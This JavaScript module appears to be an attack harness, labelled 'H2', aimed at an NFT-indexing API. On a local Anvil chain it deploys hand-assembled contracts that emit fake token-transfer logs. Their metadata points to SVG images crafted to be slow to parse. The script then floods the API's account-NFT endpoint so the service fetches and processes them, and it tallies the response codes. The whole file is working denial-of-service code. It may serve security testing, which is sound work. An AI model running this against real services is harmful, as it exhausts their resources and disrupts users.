import { request } from 'node:http';

const transferSingle = 'c3d58168c5ae7397731d063d5bbf3d657854427343f4c083240f7aacaa2d0f62';
const tokensPerAccount = 24;
const accountsAtOnce = 4;
const token = (value) => BigInt(value).toString(16).padStart(64, '0');

/** Each as long as a picture may be, and what readers of such text were slow with. */
const markups = [
  (length) => `<path d='${'a'.repeat(length)}'/>`,
  (length) => `<path style='fill:${' '.repeat(length)}'/>`,
  (length) => `<style>${'a'.repeat(length)}</style>`,
  (length) => `<style>${'/*'.repeat(length / 2)}</style>`,
  (length) => '<g>'.repeat(length / 3),
];

function metadataOf(index) {
  const markup = markups[index % markups.length](63_000);
  const image = `<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'>${markup}</svg>`;
  return `data:application/json,${JSON.stringify({ name: 'Hostile', image })}`;
}

/**
 * Contract code that logs transfers of 24 tokens to the account in the first word of its call data, and answers every
 * call with the same string: read as a number, it is a balance of 32 of each token.
 */
function hostileCode(text) {
  const bytes = Buffer.from(text).toString('hex');
  const padded = bytes.padEnd(Math.ceil(bytes.length / 64) * 64, '0');
  const answer = token(32) + token(bytes.length / 2) + padded;
  const size = (answer.length / 2).toString(16).padStart(6, '0');
  // MSTORE the quantity, then for each id: MSTORE it, and LOG4 both with the account, the zero address, the caller and
  // the event.
  const log = (id) => `60${id.toString(16).padStart(2, '0')}6000526000356000337f${transferSingle}60406000a4`;
  const before = `6001602052${Array.from({ length: tokensPerAccount }, (_, id) => log(id)).join('')}`;
  // PUSH3 size, PUSH2 offset, PUSH1 0, CODECOPY, PUSH3 size, PUSH1 0, RETURN.
  const rest = (offset) => `62${size}61${offset.toString(16).padStart(4, '0')}60003962${size}6000f3`;
  const offset = (before.length + rest(0).length) / 2;
  return `0x${before}${rest(offset)}${answer}`;
}

function createRpc(url) {
  let id = 0;
  return async (method, params) => {
    const body = JSON.stringify({ jsonrpc: '2.0', id: (id += 1), method, params });
    const response = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    const { result, error } = await response.json();
    if (error !== undefined) throw new Error(`${method}: ${error.message}`);
    return result;
  };
}

/** One request, whatever its answer; gives its status. */
function send(url, headers) {
  return new Promise((resolve) => {
    const outgoing = request(url, { headers }, (incoming) => {
      incoming.resume();
      incoming.on('close', () => resolve(incoming.statusCode));
    });
    outgoing.on('error', () => resolve(0));
    outgoing.end();
  });
}

/** H2: collectibles whose metadata is made to be slow to read, of contracts and accounts that are new each time. */
export async function attack({ url, projectId, origin, seconds, chainRpcUrl }) {
  const rpc = createRpc(chainRpcUrl);
  const senders = (await rpc('eth_accounts', [])).slice(-accountsAtOnce);
  const untilMs = Date.now() + seconds * 1_000;
  const statuses = {};
  let tokens = 0;
  let accounts = 0;
  const work = async (from) => {
    while (Date.now() < untilMs) {
      const index = (accounts += 1);
      const account = `0x${(0xbad0000000n + BigInt(index)).toString(16).padStart(40, '0')}`;
      const contract = `0x${(0xc0de0000000n + BigInt(index)).toString(16).padStart(40, '0')}`;
      await rpc('anvil_setCode', [contract, hostileCode(metadataOf(index))]);
      await rpc('eth_sendTransaction', [{ from, to: contract, gas: '0x400000', data: `0x${token(account)}` }]);
      tokens += tokensPerAccount;
      // The first request has the account read; the tokens are there soon after.
      for (let count = 0; count < 5 && Date.now() < untilMs; count += 1) {
        const status = await send(`${url}/v1/account/${account}/nfts?projectId=${projectId}`, { origin });
        statuses[status] = (statuses[status] ?? 0) + 1;
      }
    }
  };
  await Promise.all(senders.map(work));
  return { statuses, tokens, accounts };
}
